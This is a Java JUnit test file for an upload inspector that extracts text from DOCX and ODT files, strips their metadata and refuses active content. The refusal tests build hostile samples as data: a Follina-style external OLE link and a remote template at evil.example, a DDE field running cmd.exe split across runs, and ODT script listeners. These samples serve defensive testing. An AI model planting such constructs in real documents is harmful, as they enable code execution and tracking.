package dk.tillid.document;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipInputStream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static dk.tillid.document.SampleFiles.AUTHOR;
import static dk.tillid.document.SampleFiles.DANISH;
import static dk.tillid.document.SampleFiles.contentXml;
import static dk.tillid.document.SampleFiles.documentXml;
import static dk.tillid.document.SampleFiles.paragraphs;
import static org.assertj.core.api.Assertions.assertThat;

/** DOCX and ODT: text out, metadata parts emptied, everything else kept, the archive still valid. */
class UploadOfficeTest {

    final UploadInspector inspector = new UploadInspector(UploadLimits.defaults());

    @TempDir
    Path temp;

    @Test
    void docxTextRoundTripsWithParagraphsOnTheirOwnLines() {
        String body = paragraphs(DANISH)
                + "<w:p><w:pPr><w:tabs><w:tab w:val=\"left\" w:pos=\"720\"/></w:tabs></w:pPr>"
                + "<w:r><w:t>Andet</w:t><w:tab/><w:t>afsnit</w:t></w:r>"
                + "<w:r><w:delText>slettet</w:delText></w:r><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>"
                + "<w:p><w:r><w:t>Tredje &amp; sidste</w:t><w:br/><w:t>linje</w:t></w:r></w:p>";

        Inspected inspected = inspector.inspect("cv.docx", SampleFiles.docx(documentXml(body)));

        assertThat(inspected.type()).isEqualTo(DocumentType.DOCX);
        assertThat(inspected.text()).isEqualTo(DANISH + "\nAndet\tafsnit\nTredje & sidste\nlinje");
    }

    @Test
    void docxTextIsCapped() {
        String paragraph = "Ærø Østergade Åbyhøj ".repeat(50);
        String[] paragraphs = Collections.nCopies(250, paragraph).toArray(String[]::new);

        Inspected inspected = inspector.inspect("cv.docx", SampleFiles.docx(documentXml(paragraphs(paragraphs))));

        assertThat(inspected.text()).hasSize(ExtractedText.MAX_CHARACTERS).startsWith(DANISH);
    }

    @Test
    void docxMetadataIsGoneAndEverythingElseKept() throws IOException {
        Map<String, byte[]> original = SampleFiles.docxParts(documentXml(paragraphs(DANISH)));
        assertThat(new String(original.get("docProps/core.xml"), StandardCharsets.UTF_8)).contains(AUTHOR);

        Inspected inspected = inspector.inspect("cv.docx", SampleFiles.zip(original));
        Map<String, byte[]> cleaned = entries(inspected.content());

        assertThat(cleaned.keySet()).as("the same entries in the same order").containsExactlyElementsOf(original.keySet());
        String core = new String(cleaned.get("docProps/core.xml"), StandardCharsets.UTF_8);
        assertThat(core).contains("coreProperties").doesNotContain(AUTHOR, "creator", "Ansøgning", "2024");
        String app = new String(cleaned.get("docProps/app.xml"), StandardCharsets.UTF_8);
        assertThat(app).contains("Properties").doesNotContain("Hemmelig", "Microsoft");
        String custom = new String(cleaned.get("docProps/custom.xml"), StandardCharsets.UTF_8);
        assertThat(custom).contains("custom-properties").doesNotContain("CprMarker", "010203");
        for (String unchanged : List.of("[Content_Types].xml", "_rels/.rels", "word/document.xml",
                "word/media/image1.png")) {
            assertThat(cleaned.get(unchanged)).as(unchanged).isEqualTo(original.get(unchanged));
        }
        assertThat(SampleFiles.contains(inspected.content(), AUTHOR)).isFalse();
        assertValidArchive(inspected.content(), original.keySet());
    }

    @Test
    void odtTextRoundTripsWithSpacesTabsAndLineBreaks() {
        String text = "<text:h text:outline-level=\"1\">" + DANISH + "</text:h>\n  "
                + "<text:p>To<text:s text:c=\"3\"/>mellemrum<text:tab/>og<text:line-break/>linjeskift</text:p>\n"
                + "<text:p>Sidste   \n    <text:span>afsnit</text:span>"
                + "<office:annotation><dc:creator>Kommentator</dc:creator><text:p>en kommentar</text:p>"
                + "</office:annotation></text:p>"
                + "<text:tracked-changes><text:changed-region><text:deletion><text:p>slettet</text:p>"
                + "</text:deletion></text:changed-region></text:tracked-changes>";

        Inspected inspected = inspector.inspect("cv.odt", SampleFiles.odt(contentXml(text)));

        assertThat(inspected.type()).isEqualTo(DocumentType.ODT);
        assertThat(inspected.text()).isEqualTo(DANISH + "\nTo   mellemrum\tog\nlinjeskift\nSidste afsnit"
                + "\nen kommentar");
    }

    @Test
    void odtMetadataIsGoneAndTheMimetypeStaysFirstAndStored() throws IOException {
        List<SampleFiles.Entry> original = SampleFiles.odtEntries(contentXml("<text:p>" + DANISH + "</text:p>"));
        List<String> names = original.stream().map(SampleFiles.Entry::name).toList();

        Inspected inspected = inspector.inspect("cv.odt", SampleFiles.zip(original));
        Map<String, byte[]> cleaned = entries(inspected.content());

        assertThat(cleaned.keySet()).containsExactlyElementsOf(names);
        String meta = new String(cleaned.get("meta.xml"), StandardCharsets.UTF_8);
        assertThat(meta).contains("office:document-meta", "office:meta", "office:version=\"1.3\"")
                .doesNotContain(AUTHOR, "creator", "LibreOffice");
        assertThat(SampleFiles.contains(inspected.content(), AUTHOR)).isFalse();
        for (SampleFiles.Entry entry : original) {
            if (!entry.name().equals("meta.xml")) {
                assertThat(cleaned.get(entry.name())).as(entry.name()).isEqualTo(entry.content());
            }
        }
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(inspected.content()))) {
            ZipEntry first = zip.getNextEntry();
            assertThat(first.getName()).isEqualTo("mimetype");
            assertThat(first.getMethod()).isEqualTo(ZipEntry.STORED);
        }
        // ODF: "mimetype" at byte 30, its content right after, uncompressed
        assertThat(new String(inspected.content(), 30, 8 + SampleFiles.ODT_MIMETYPE.length(),
                StandardCharsets.US_ASCII)).isEqualTo("mimetype" + SampleFiles.ODT_MIMETYPE);
        assertValidArchive(inspected.content(), names);
    }

    @Test
    void aCleanedDocumentIsAcceptedAgainUnchanged() {
        Inspected once = inspector.inspect("cv.docx", SampleFiles.docx(documentXml(paragraphs(DANISH))));
        Inspected twice = inspector.inspect(once.safeFilename(), once.content());

        assertThat(twice.text()).isEqualTo(once.text());
        assertThat(twice.content()).isEqualTo(once.content());
    }

    /** Readable through the central directory (as Word and LibreOffice read it), with these entries. */
    private void assertValidArchive(byte[] archive, Iterable<String> names) throws IOException {
        Path file = Files.write(temp.resolve("cleaned.zip"), archive);
        try (ZipFile zip = new ZipFile(file.toFile())) {
            List<String> listed = new ArrayList<>();
            zip.stream().forEach(entry -> listed.add(entry.getName()));
            assertThat(listed).containsExactlyElementsOf(names);
            for (String name : listed) {
                try (var in = zip.getInputStream(zip.getEntry(name))) {
                    in.readAllBytes();
                }
            }
        }
    }

    private static Map<String, byte[]> entries(byte[] archive) throws IOException {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(archive))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                entries.put(entry.getName(), zip.readAllBytes());
            }
        }
        return entries;
    }

    static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private static byte[] docxWithDocumentRelationship(String type, String target, String mode) {
        var parts = SampleFiles.docxParts(SampleFiles.documentXml(SampleFiles.paragraphs("Hej")));
        parts.put("word/_rels/document.xml.rels", SampleFiles.utf8("""
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
                <Relationship Id="rId9" Type="%s" Target="%s"%s/></Relationships>"""
                .formatted(REL + type, target, mode == null ? "" : " TargetMode=\"" + mode + "\"")));
        return SampleFiles.zip(parts);
    }

    private static UploadRefusedException.Reason refusal(byte[] file, String name) {
        try {
            new UploadInspector(UploadLimits.defaults()).inspect(name, file);
            return null;
        } catch (UploadRefusedException refused) {
            return refused.reason();
        }
    }

    @Test
    void aDocxThatFetchesFromElsewhereOrRunsFieldsIsRefused() {
        var active = UploadRefusedException.Reason.ACTIVE_CONTENT;
        assertThat(refusal(docxWithDocumentRelationship("oleObject", "mhtml:http://evil.example/x!x.html", "External"), "a.docx"))
                .as("external OLE object (Follina)").isEqualTo(active);
        assertThat(refusal(docxWithDocumentRelationship("image", "file://fileserver/share/x.png", "External"), "b.docx"))
                .as("picture on a file share").isEqualTo(active);
        assertThat(refusal(docxWithDocumentRelationship("frame", "http://evil.example/t.dotm", "External"), "c.docx"))
                .as("remote frame").isEqualTo(active);
        assertThat(refusal(docxWithDocumentRelationship("aFChunk", "/word/afchunk.mht", null), "d.docx"))
                .as("alternative format chunk").isEqualTo(active);
        var embedded = SampleFiles.docxParts(SampleFiles.documentXml(SampleFiles.paragraphs("Hej")));
        embedded.put("word/embeddings/oleObject1.bin", new byte[] {1, 2, 3});
        assertThat(refusal(SampleFiles.zip(embedded), "e.docx")).as("embedded OLE object").isEqualTo(active);
        String splitDde = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>"
                + "<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \\\"/k calc\\\"</w:instrText></w:r>"
                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
        assertThat(refusal(SampleFiles.docx(SampleFiles.documentXml(splitDde)), "f.docx")).as("DDE field in two runs")
                .isEqualTo(active);
    }

    @Test
    void ordinaryLinksAndFieldsStay() {
        String hyperlinkField = "<w:p><w:fldSimple w:instr=\" HYPERLINK &quot;https://example.dk/link&quot; \">"
                + "<w:r><w:t>se mit link</w:t></w:r></w:fldSimple><w:r><w:t>Side </w:t></w:r>"
                + "<w:fldSimple w:instr=\" PAGE \"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>";

        assertThat(refusal(docxWithDocumentRelationship("hyperlink", "https://www.linkedin.com/in/x", "External"), "a.docx")).isNull();
        assertThat(refusal(SampleFiles.docx(SampleFiles.documentXml(hyperlinkField)), "b.docx")).isNull();
    }

    @Test
    void anOdtWithScriptsListenersForeignObjectsOrFetchedPicturesIsRefused() {
        var active = UploadRefusedException.Reason.ACTIVE_CONTENT;
        String draw = "xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" "
                + "xmlns:xlink=\"http://www.w3.org/1999/xlink\" ";
        assertThat(refusal(SampleFiles.odt(SampleFiles.contentXml(
                "<office:event-listeners><script:event-listener script:event-name=\"dom:load\"/></office:event-listeners>")), "a.odt"))
                .isEqualTo(active);
        assertThat(refusal(SampleFiles.odt(SampleFiles.contentXml(
                "<text:p><draw:frame " + draw + "><draw:image xlink:href=\"http://evil.example/pixel.png\"/></draw:frame></text:p>")),
                "b.odt")).isEqualTo(active);
        assertThat(refusal(SampleFiles.odt(SampleFiles.contentXml(
                "<text:p><draw:frame " + draw + "><draw:object-ole xlink:href=\"./Object 1\"/></draw:frame></text:p>")),
                "c.odt")).isEqualTo(active);
        assertThat(refusal(SampleFiles.odt(SampleFiles.contentXml(
                "<text:p><text:a " + draw + " xlink:href=\"https://example.dk\">mit websted</text:a></text:p>")), "d.odt"))
                .as("an ordinary link").isNull();
    }
}
